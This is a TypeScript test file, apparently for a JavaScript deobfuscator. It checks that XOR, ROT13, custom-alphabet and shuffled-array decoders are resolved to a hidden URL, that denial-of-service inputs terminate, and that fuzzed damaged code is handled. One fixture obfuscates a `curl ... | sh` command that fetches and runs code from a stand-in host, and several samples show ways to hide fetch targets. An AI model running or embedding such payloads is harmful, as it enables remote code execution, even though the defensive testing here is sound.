import { readFileSync } from 'node:fs';
import { array, assert, constantFrom, nat, property, tuple } from 'fast-check';
import obfuscator from 'javascript-obfuscator';
import { describe, expect, it } from 'vitest';
import { nodesOf } from '../../../src/languages/javascript/create-unit.ts';
import { parseJavaScript } from '../../../src/languages/javascript/parse.ts';

/** The texts that took the place of calls. */
function revealed(code: string): unknown[] {
  const parsed = parseJavaScript('index.js', code);
  if (!('unit' in parsed)) throw new Error(parsed.detail);
  return nodesOf(parsed.unit).flatMap((node) =>
    'isDecoded' in node ? [(node as { value?: unknown }).value] : [],
  );
}

const letters = (text: string): string[] => Array.from(text);
const host = 'https://load.example/x';
const codes = (key: number): string =>
  letters(host)
    .map((one) => one.charCodeAt(0) ^ key)
    .join(',');

describe('calls that decode a text', () => {
  it.each<[string, string]>([
    [
      'a loop with XOR',
      `function d(list, key) { let text = ''; for (let i = 0; i < list.length; i++) { text += String.fromCharCode(list[i] ^ key); } return text; } fetch(d([${codes(7)}], 7));`,
    ],
    [
      'a key that repeats',
      `const key = 'k3y';
       function d(hex) { const out = []; for (let i = 0; i < hex.length; i += 2) out.push(parseInt(hex.substr(i, 2), 16) ^ key.charCodeAt((i / 2) % key.length)); return String.fromCharCode(...out); }
       fetch(d('${letters(host)
         .map((one, at) =>
           (one.charCodeAt(0) ^ 'k3y'.charCodeAt(at % 3)).toString(16).padStart(2, '0'),
         )
         .join('')}'));`,
    ],
    [
      'letters turned by thirteen',
      "const rot = (text) => text.replace(/[a-zA-Z]/g, (one) => String.fromCharCode((one <= 'Z' ? 90 : 122) >= (one = one.charCodeAt(0) + 13) ? one : one - 26)); fetch(rot('uggcf://ybnq.rknzcyr/k'));",
    ],
    [
      'an alphabet of its own',
      (() => {
        const plain = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
        const own = letters(plain).toReversed().join('');
        const hidden = letters(Buffer.from(host).toString('base64').replaceAll('=', ''))
          .map((one) => own[plain.indexOf(one)])
          .join('');
        return `const own = '${own}'; const plain = '${plain}';
          function d(text) { let out = ''; for (const one of text) out += plain.charAt(own.indexOf(one)); return Buffer.from(out, 'base64').toString('utf8').split('').map((c) => String.fromCharCode(c.charCodeAt(0))).join(''); }
          fetch(d('${hidden}'));`;
      })(),
    ],
    [
      'bytes of a buffer',
      `function d(text, key) { const bytes = Buffer.from(text, 'base64'); for (let i = 0; i < bytes.length; i++) bytes[i] ^= key.charCodeAt(i % key.length); return bytes.toString(); }
       fetch(d('${Buffer.from(letters(host).map((one) => one.charCodeAt(0) ^ 97)).toString('base64')}', 'a'));`,
    ],
    [
      'every second letter',
      `function d(text) { var out = ''; var i = 0; while (i < text.length) { if (i % 2 === 0) { out += String.fromCharCode(text.charCodeAt(i)); } i++; } return out; } fetch(d('${letters(
        host,
      )
        .map((one) => `${one}#`)
        .join('')}'));`,
    ],
    [
      'a table that is read by number',
      `var t = ['x', 'y', 'z', '${host}']; var get = function (i) { i = i - 0x10; var one = t[i]; return one; }; fetch(get('0x13'));`,
    ],
    [
      'a table that a call has put in order',
      `var t = ['z', '${host}', 'x', 'y']; (function (list, n) { var turn = function (k) { while (--k) { list['push'](list['shift']()); } }; turn(++n); })(t, 0x3); var get = function (i) { return t[i - 0]; }; fetch(get(0x2));`,
    ],
    [
      'bytes that are turned to a text outside',
      `function d(list) { return Buffer.from(list.map((one) => one ^ 'a'.charCodeAt(0))); } fetch(d([${codes(97)}]).toString('utf8'));`,
    ],
    [
      'functions of the global object',
      `var root = Function('return this')(); function d(text) { return root['String']['fromCharCode'].apply(null, text.split('|').map(Number)); } fetch(d('${letters(
        host,
      )
        .map((one) => one.charCodeAt(0))
        .join('|')}'));`,
    ],
  ])('%s', (_name, code) => {
    expect(revealed(code)).toContain(host);
  });

  it.each<[string, string]>([
    [
      'state',
      "let n = 0; function next(p) { n += 1; return String.fromCharCode(65 + n) + p; } use(next('a'));",
    ],
    [
      'chance',
      "function id(p) { return String.fromCharCode(65 + Math.random() * 26) + p; } use(id('a'));",
    ],
    [
      'the clock',
      "function id(p) { return String.fromCharCode(65 + Date.now() % 26) + p; } use(id('a'));",
    ],
    [
      'the environment',
      "function id(p) { return String.fromCharCode(65) + process.env[p]; } use(id('HOME'));",
    ],
    [
      'a parameter',
      'function d(c) { return String.fromCharCode(c); } export function f(a) { return d(a); }',
    ],
    [
      'what a module gives',
      "import x from 'x'; function d(c) { return x(String.fromCharCode(c)); } use(d(65));",
    ],
  ])('leaves what depends on %s', (_name, code) => {
    expect(revealed(code)).toEqual([]);
  });
});

describe('code that means to keep the interpreter busy', () => {
  it.each<[string, string]>([
    ['an endless loop', "function d(s) { for (;;) s.charCodeAt(0); } use(d('a'));"],
    ['endless recursion', "function d(s) { return d(s + String.fromCharCode(65)); } use(d('a'));"],
    [
      'recursion in two ways',
      'function d(n) { return n < 2 ? String.fromCharCode(65) : d(n - 1) + d(n - 2); } use(d(60));',
    ],
    [
      'a text that doubles',
      "function d(s) { while (true) { s += s; s.charCodeAt(0); } } use(d('aa'));",
    ],
    [
      'a list that doubles',
      "function d(s) { let l = [s.charCodeAt(0)]; while (true) l = l.concat(l); } use(d('a'));",
    ],
    [
      'a list of lists',
      "function d(s) { const l = [s.charCodeAt(0)]; l.push(l); return l.join() + l; } use(d('a'));",
    ],
    [
      'a list that grows in its own loop',
      "function d(s) { const l = [s.charCodeAt(0)]; for (const x of l) l.push(x); return l.join(); } use(d('a'));",
    ],
    [
      'a far index',
      "function d(s) { const l = []; l[4e8] = s.charCodeAt(0); return l.join(); } use(d('a'));",
    ],
    [
      'a huge buffer',
      "function d(s) { return Buffer.alloc(4e9).toString() + s.charCodeAt(0); } use(d('a'));",
    ],
    [
      'many records',
      "function d(s) { let o = { c: s.charCodeAt(0) }; for (;;) o = { o, p: o, q: [o, o, o] }; } use(d('a'));",
    ],
    [
      'endless replacing',
      "function d(s) { for (;;) s = s.replace(/./g, (x) => x + x + String.fromCharCode(65)); } use(d('aaaa'));",
    ],
    [
      'a caught endless loop',
      "function d(s) { try { for (;;) s.charCodeAt(0); } catch (e) { for (;;); } finally { return 'x'; } } use(d('a'));",
    ],
    [
      'a pattern that backtracks',
      `function d(s) { return /^(a+)+$/.test('${'a'.repeat(60)}b') + String.fromCharCode(65); } use(d('a'));`,
    ],
    [
      'a sorting function that never ends',
      "function d(s) { return [3, 2, 1].sort((a, b) => { for (;;) s.charCodeAt(0); }).join(); } use(d('a'));",
    ],
    [
      'names of prototypes',
      "function d(s) { const o = {}; o['__proto__'] = 1; o['constructor'] = 2; return String.fromCharCode(65).constructor.constructor('return process')(); } use(d('a'));",
    ],
  ])('%s ends', (_name, code) => {
    const many = `${code}\n${Array.from({ length: 200 }, (_, at) => `use(d('b${at}'));`).join('\n')}`;
    const start = performance.now();
    expect(revealed(many)).toEqual([]);
    expect(performance.now() - start).toBeLessThan(15_000);
  });
});

describe('code of obfuscators that was damaged', () => {
  const whole = obfuscator
    .obfuscate(`require('child_process').exec('curl ${host} | sh'); console.log('one', 'two');`, {
      seed: 5,
      target: 'node',
      optionsPreset: 'medium-obfuscation',
      stringArrayEncoding: ['rc4'],
    })
    .getObfuscatedCode();

  it('never throws, and answers the same twice', () => {
    const place = nat({ max: whole.length });
    const piece = constantFrom(
      '0x1',
      '[',
      '(',
      ')',
      'while(true)',
      '+',
      'continue',
      "'",
      'arguments',
      'this',
      '',
    );
    assert(
      property(place, nat({ max: 20 }), piece, (at, length, by) => {
        const damaged = whole.slice(0, at) + by + whole.slice(at + length);
        const parsed = parseJavaScript('index.js', damaged);
        if (!('unit' in parsed)) return;
        expect(revealed(damaged)).toEqual(revealed(damaged));
      }),
      { numRuns: 40, seed: 20261125 },
    );
  }, 60_000);
});

describe('code of libraries that was damaged', () => {
  const files = [
    'semver/classes/range.js',
    'yaml/dist/parse/lexer.js',
    'pg/lib/utils.js',
    'commander/lib/command.js',
  ];
  const texts = files.map((file) =>
    readFileSync(new URL(`../../../node_modules/${file}`, import.meta.url), 'utf8'),
  );
  // Pieces that make functions look like decoders, tables like tables, and calls like those that put them in order.
  const pieces = [
    'String.fromCharCode(this.x ^ arguments[0])',
    "['one', 'two', 'three', 'four'][0x1 - n]",
    '(function (t) { while (true) { try { t.push(t.shift()); } catch { break; } } })(table);',
    'for (;;) continue;',
    'x.charCodeAt(0)',
    '`${a}${b}`',
    'return',
    '...[1, 2]',
    'new this()',
  ];

  it('never throws, ends, and answers the same twice', () => {
    assert(
      property(
        constantFrom(...texts),
        array(tuple(nat(), nat({ max: 40 }), constantFrom(...pieces)), {
          minLength: 1,
          maxLength: 6,
        }),
        (text, changes) => {
          let damaged = text;
          for (const [at, length, piece] of changes) {
            const place = at % damaged.length;
            damaged = damaged.slice(0, place) + piece + damaged.slice(place + length);
          }
          const parsed = parseJavaScript('index.js', damaged);
          if (!('unit' in parsed)) return;
          expect(revealed(damaged)).toEqual(revealed(damaged));
        },
      ),
      { numRuns: 400, seed: 20261125 },
    );
  }, 60_000);
});
